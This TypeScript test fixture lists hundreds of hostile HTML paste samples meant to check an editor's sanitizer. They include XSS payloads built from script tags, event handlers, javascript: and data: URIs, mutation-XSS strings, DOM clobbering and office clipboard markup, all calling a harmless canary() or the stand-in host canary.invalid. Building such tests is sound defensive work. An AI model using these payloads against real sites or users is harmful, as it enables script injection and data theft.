/**
 * Hostile HTML that a user may paste unknowingly. Each of these calls `canary()` or requests canary.invalid when it
 * works; around it is a word that must survive.
 */
const CALL = "canary()";
const HOST = "https://canary.invalid";

const encoded = CALL.split("")
  .map((letter) => `&#${letter.charCodeAt(0)};`)
  .join("");
const base64 = Buffer.from(`<script>${CALL}</script>`).toString("base64");

/** Elements that load or run by themselves. */
const elements = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script src="${HOST}/x.js"></script>`,
  `<script type="module">import "${HOST}/x.js"</script>`,
  `<script>//<![CDATA[\n${CALL}//]]></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script\t>${CALL}</script\n>`,
  `<script/x>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `<script>${CALL}`,
  `<style>@import "${HOST}/x.css"; p { background: url(${HOST}/x.png) }</style>`,
  `<style>@font-face { font-family: x; src: url(${HOST}/x.woff2) } * { font-family: x }</style>`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<link rel="preload" as="image" href="${HOST}/x.png">`,
  `<link rel="import" href="data:text/html;base64,${base64}">`,
  `<link rel="prefetch" href="${HOST}/next"><link rel="dns-prefetch" href="//canary.invalid">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/away">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${HOST}/"><img src="x.png"><a href="page">relative</a>`,
  `<base target="_blank" href="javascript:${CALL}//">`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe src="${HOST}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="data:text/html;base64,${base64}"></iframe>`,
  `<frameset><frame src="javascript:${CALL}"></frameset>`,
  `<object data="javascript:${CALL}">object</object>`,
  `<object data="data:text/html;base64,${base64}" type="text/html">object</object>`,
  `<object classid="clsid:x"><param name="src" value="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src="data:image/svg+xml;base64,${base64}" type="image/svg+xml">`,
  `<applet code="${HOST}/x.class"></applet>`,
  `<form action="javascript:${CALL}"><input name="x" value="v"><button>send</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${CALL}">press</button>`,
  `<input type="image" src="${HOST}/x.png" formaction="javascript:${CALL}">`,
  `<isindex type="image" src="1" onerror="${CALL}">`,
  `<img src="${HOST}/x.png">`,
  `<img srcset="${HOST}/x.png 2x" src="data:,">`,
  `<picture><source srcset="${HOST}/x.webp"><img src="${HOST}/x.png"></picture>`,
  `<img src="x" lowsrc="javascript:${CALL}" dynsrc="javascript:${CALL}">`,
  `<video src="${HOST}/x.mp4" poster="${HOST}/x.png" autoplay></video>`,
  `<video><source onerror="${CALL}" src="x"></video>`,
  `<audio src="${HOST}/x.mp3" autoplay onerror="${CALL}"></audio>`,
  `<track src="${HOST}/x.vtt" default>`,
  `<body background="${HOST}/x.png" onload="${CALL}">`,
  `<table background="${HOST}/x.png"><tr><td background="${HOST}/y.png">cell</td></tr></table>`,
  `<bgsound src="${HOST}/x.mid">`,
  `<portal src="${HOST}/x"></portal>`,
  `<template><script>${CALL}</script><img src="x" onerror="${CALL}"></template>`,
  `<template shadowrootmode="open"><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<xmp><img src="x" onerror="${CALL}"></xmp>`,
  `<plaintext><img src="x" onerror="${CALL}">`,
  `<textarea><img src="x" onerror="${CALL}"></textarea>`,
  `<title><img src="x" onerror="${CALL}"></title>`,
  `<select><option><img src="x" onerror="${CALL}"></option></select>`,
  `<dialog open onclose="${CALL}"><form method="dialog"><button>ok</button></form></dialog>`,
  `<canvas onclick="${CALL}">drawn</canvas>`,
  `<marquee onstart="${CALL}" loop="1">runs</marquee>`,
  `<details open ontoggle="${CALL}"><summary>more</summary>hidden</details>`,
  `<div popover id="p" ontoggle="${CALL}">pop</div><button popovertarget="p">show</button>`,
  `<x-card onclick="${CALL}"><slot></slot></x-card>`,
];

const events =
  "onload onerror onclick onfocus onmouseover onpointerenter onanimationstart ontransitionend onpaste oncopy onscroll onwheel oninput onbeforeinput oncontextmenu ontouchstart".split(
    " ",
  );
/** Event handlers, quoted in every way a parser accepts. */
const handlers = [
  ...events.map((name) => `<img src="x:" ${name}="${CALL}">`),
  ...events.slice(0, 6).map((name) => `<p ${name}='${CALL}' tabindex=0 autofocus>handled</p>`),
  `<img src=x onerror=${CALL}>`,
  `<img/src/onerror=${CALL}>`,
  `<img src=x oNeRrOr=${CALL}>`,
  `<img src=x onerror\n=\n"${CALL}">`,
  `<img src=x onerror=\x0c${CALL}>`,
  `<img """><img src=x onerror=${CALL}>">`,
  `<img src='x'onerror='${CALL}'>`,
  `<img src=x onerror="${encoded}">`,
  `<img src=x onerror=&#x63;anary()>`,
  `<img src=x onerror="eval(atob('Y2FuYXJ5KCk='))">`,
  `<img src=x onerror=window['can'+'ary']()>`,
  `<b onmouseover=${CALL} style="position:fixed;inset:0">everywhere</b>`,
  `<a href="https://example.com" onclick="${CALL}">handled link</a>`,
  `<a href="https://example.com" ping="${HOST}/ping">pinging link</a>`,
  `<p style="background:url(${HOST}/x.png)">styled</p>`,
  `<p style="background:url('javascript:${CALL}')">styled</p>`,
  `<p style="width:expression(${CALL})">styled</p>`,
  `<p style="behavior:url(${HOST}/x.htc);-moz-binding:url(${HOST}/x.xml#x)">styled</p>`,
];

/** Addresses with a scheme that runs or contains code. */
const schemes = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\rscript:${CALL}`,
  `&#1;javascript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61&#x76&#x61script:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `jav&Tab;ascript&colon;${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript://https://example.com/%0a${CALL}`,
  `javascript:/*https://example.com*/${CALL}`,
  `javascript:%63anary()`,
  `\u200bjavascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `\ufeffjavascript:${CALL}`,
  `j\u00advascript:${CALL}`,
  `vbscript:msgbox(1)`,
  `livescript:${CALL}`,
  `mocha:${CALL}`,
  `data:text/html;base64,${base64}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:image/svg+xml;base64,${base64}`,
  `DATA:text/html,x`,
  `blob:${HOST}/1`,
  `file:///etc/passwd`,
  `filesystem:${HOST}/x`,
  `view-source:javascript:${CALL}`,
  `feed:javascript:${CALL}`,
  `jar:${HOST}/x!/`,
  `about:blank`,
  `chrome://settings`,
  `intent://x#Intent;end`,
  `ftp://canary.invalid/x`,
  `mailto:x@example.com`,
  `//user@canary.invalid/`,
  `https://example.com@canary.invalid/`,
  `https:\\\\canary.invalid\\x`,
  `https://`,
  `#javascript:${CALL}`,
  `?x`,
  ``,
];
const addresses = [
  ...schemes.map((href) => `<a href="${href}">address</a>`),
  ...schemes
    .slice(0, 8)
    .map((href) => `<form><button formaction="${href}">address</button></form>`),
  ...schemes
    .slice(0, 8)
    .map((href) => `<svg><a xlink:href="${href}"><text>address</text></a></svg>`),
  `<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${CALL}"></map>`,
  `<a href=javascript:${CALL}>address</a>`,
  `<a href='javascript:${CALL}' href='https://example.com'>address</a>`,
  `<blockquote cite="javascript:${CALL}">address</blockquote>`,
];

/** Markup that changes its meaning when it is serialized and parsed again. */
const mutations = [
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><p><style><!--</style><img src=x onerror=${CALL}>--></style></p></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<math><mi><table><mglyph><style><math><img src=x onerror=${CALL}></style></table></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<svg><foreignObject><p><iframe src="javascript:${CALL}"></p></foreignObject></svg>`,
  `<svg><desc><noscript></desc></svg><img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}><text>svg</text></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="${HOST}/x.js"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${base64}#x"/></svg>`,
  `<svg><image href="${HOST}/x.png"/></svg>`,
  `<svg><feImage href="${HOST}/x.png"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text>svg</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${CALL}></svg>`,
  `<math href="javascript:${CALL}">math</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">math</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<p title="</p><img src=x onerror=${CALL}>">titled</p>`,
  `<img alt="\`><script>${CALL}</script>" src="x">`,
  `<img title="a&#10;><script>${CALL}</script>">`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${CALL}"?>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${CALL}</script>">]>&x;`,
  `</p></div></body></html><script>${CALL}</script>`,
  `<p><b><i></p><script>${CALL}</script></i></b>`,
  `<table><script>${CALL}</script><td>cell</table>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<p>\u2028<script>${CALL}</script>\u2029</p>`,
  `<\u0000script>${CALL}</\u0000script>`,
  `<ſcript>${CALL}</ſcript><ıframe src="javascript:${CALL}">`,
];

/** The properties that code reads of elements. */
const properties =
  "nodeName nodeType nodeValue tagName localName namespaceURI attributes childNodes children firstChild lastChild firstElementChild nextSibling previousSibling parentNode parentElement ownerDocument textContent innerHTML outerHTML className classList style hasAttribute getAttribute removeAttribute setAttribute querySelector querySelectorAll matches closest contains appendChild removeChild insertBefore replaceWith remove cloneNode isConnected pmViewDesc toString constructor __proto__".split(
    " ",
  );

/** A form returns its control of that name for each of these properties. */
function controls(...tags: readonly string[]): string[] {
  const [first = ""] = tags;
  return [
    ...properties.map((name) => `<form>kept<${first} name="${name}"></form>`),
    ...tags.map((tag) => `<form id="f">kept<${tag} id="nodeName"></${tag}></form>`),
    `<form id="f">kept</form><input form="f" name="childNodes">`,
    `<FORM\n>kept<ul><li><input name=parentNode></ul></FORM>`,
    `<b><form/>kept<input name=firstChild></b>`,
    `<table><form><tr><td>kept<input name="nodeName"></table>`,
  ];
}

/** Names that would shadow parts of the page or of its scripts. */
const clobbering = [
  `<form id="document"><input name="body"></form>`,
  `<img name="getElementById"><img id="trustedTypes">`,
  `<a id="canary"></a><a id="canary" name="call" href="javascript:${CALL}">clobber</a>`,
  `<form name="location"><input name="href" value="javascript:${CALL}"></form>`,
  `<input name="attributes"><input name="childNodes">`,
  ...controls("input", "button", "select", "textarea", "fieldset", "output", "object", "img"),
  `<p id="content" class="ProseMirror" contenteditable="true">second editor</p>`,
  `<div data-pm-slice="1 1 []"><script>${CALL}</script>sliced</div>`,
  `<div data-pm-slice='0 0 ["image",{"src":"${HOST}/x.png"}]'>sliced</div>`,
  `<p data-type="mention" data-id="javascript:${CALL}">typed</p>`,
  `<div role="alert" aria-live="assertive" id="post-text">spoken</div>`,
  `<p contenteditable="false" draggable="true">stuck</p>`,
  `<p is="x-card" slot="x" part="y" nonce="z">custom</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;opacity:0">invisible cover</p>`,
];

/** Markup that is wrong only because of its amount or its place. */
const shapes = [
  `<table><tr><td>one<td>two<tr><th>three</table>`,
  `<table><caption>title</caption><tbody><tr><td><table><tr><td>inner</table></table>`,
  `${"<div>".repeat(500)}deep${"</div>".repeat(500)}`,
  `${"<b>".repeat(500)}deep`,
  `${"<blockquote>".repeat(200)}deep`,
  `${"<ul><li>".repeat(100)}deep`,
  `${"<a href=https://example.com>".repeat(200)}deep`,
  `<p ${"x=1 ".repeat(2000)}>attributes</p>`,
  `<p>${"&amp;lt;".repeat(200)}</p>`,
  `<h1>heading</h1><hr><h6>heading</h6><dl><dt>term<dd>meaning</dl>`,
  `<ruby>字<rp>(<rt>ji<rp>)</ruby><sub>2</sub><sup>3</sup><mark>marked</mark>`,
  `<ol start="99999999999999" type="A"><li value="-5">item</ol>`,
  `<ol start="1&quot;><script>${CALL}</script>"><li>item</ol>`,
  `<pre><code class='language-"><script>${CALL}</script>'>code</code></pre>`,
  `<span data-spoiler="<script>">hidden</span><tg-spoiler onclick=${CALL}>hidden</tg-spoiler>`,
  `<tg-emoji emoji-id="1"><img src="${HOST}/x.png">😀</tg-emoji>`,
  `<font color=red size=7 face="url(${HOST})">old</font><center>centre</center>`,
  `<p dir="rtl">\u202eexe.gpj</p>`,
];

/** What office programs and messengers add to the clipboard besides the text. */
const offices = [
  `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><xml><o:OfficeDocumentSettings/></xml><!--[if gte mso 9]><xml>${CALL}</xml><![endif]--></head><body><p class=MsoNormal>office<o:p></o:p></p></body></html>`,
  `<v:shape style="behavior:url(#default#VML)"><v:imagedata src="${HOST}/x.png"/></v:shape>`,
  `<o:OLEObject Type="Embed" ProgID="Package"></o:OLEObject>`,
  `<p style='mso-element:comment;background:url("file:///C:/x.png")'>office</p>`,
  `{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "javascript:${CALL}"}{\\fldrslt office}}}`,
  `<div><!--StartFragment--><script>${CALL}</script><b>office</b><!--EndFragment--></div>`,
  `<google-sheets-html-origin><style>@import url(${HOST}/x.css);</style><table data-sheets-root="1"><td data-sheets-formula="=IMPORTXML(&quot;${HOST}&quot;)">office</table>`,
  `<b id="docs-internal-guid-1" style="font-weight:normal"><span style="font-weight:700;background:url(${HOST}/x.png)">office</span></b>`,
  `<meta charset="utf-8"><a class="text-entity-link" href="javascript:${CALL}" data-entity-type="MessageEntityTextUrl">office</a>`,
  `<figure data-url="${HOST}"><img src="${HOST}/notion.png"><figcaption>office</figcaption></figure>`,
];

export const hostilePastes: readonly string[] = [
  ...elements,
  ...handlers,
  ...addresses,
  ...mutations,
  ...clobbering,
  ...shapes,
  ...offices,
];
